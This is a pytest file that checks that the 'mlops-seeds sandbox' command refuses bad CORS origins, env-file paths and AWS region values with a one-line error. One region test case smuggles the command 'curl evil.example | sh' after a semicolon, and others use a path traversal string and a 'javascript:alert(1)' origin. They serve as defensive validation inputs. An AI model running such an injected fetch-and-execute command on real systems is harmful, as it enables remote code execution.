"""Bad input to `mlops-seeds sandbox`: refused with one line before it serves anything."""

import pytest
from harness import Case, Places, check_one_line, ids, invoke

CASES = [
    Case(
        "cors-wildcard", ["sandbox", "--cors-origin", "*"], "--cors-origin '*': must be one origin"
    ),
    Case(
        "cors-with-path",
        ["sandbox", "--cors-origin", "https://tool.example/app"],
        "--cors-origin 'https://tool.example/app': must be one origin",
    ),
    Case(
        "cors-javascript",
        ["sandbox", "--cors-origin", "javascript:alert(1)"],
        "--cors-origin 'javascript:alert(1)': must be one origin",
    ),
    Case(
        "cors-null-origin",
        ["sandbox", "--cors-origin", "null"],
        "--cors-origin 'null': must be one origin",
    ),
    Case("env-file-is-a-folder", ["sandbox", "--env-file", "{place}"], "is a directory"),
    Case(
        "env-file-in-missing-folder",
        ["sandbox", "--env-file", "{place}/missing/sandbox.env"],
        "folder {place}/missing does not exist",
    ),
    Case(
        "region-with-shell",
        ["sandbox", "--region", "us-east-1; curl evil.example | sh"],
        "--region 'us-east-1; curl evil.example | sh': must be an AWS region",
    ),
    Case("region-empty", ["sandbox", "--region", ""], "--region '': must be an AWS region"),
    Case(
        "region-traversal",
        ["sandbox", "--region", "../../etc"],
        "--region '../../etc': must be an AWS region",
    ),
]


@pytest.mark.parametrize("case", CASES, ids=ids(CASES))
def test_sandbox_bad_input(case: Case, places: Places, monkeypatch: pytest.MonkeyPatch) -> None:
    result = invoke(places, case, monkeypatch)
    check_one_line(result, case, places)
    assert not any(places.place.iterdir())
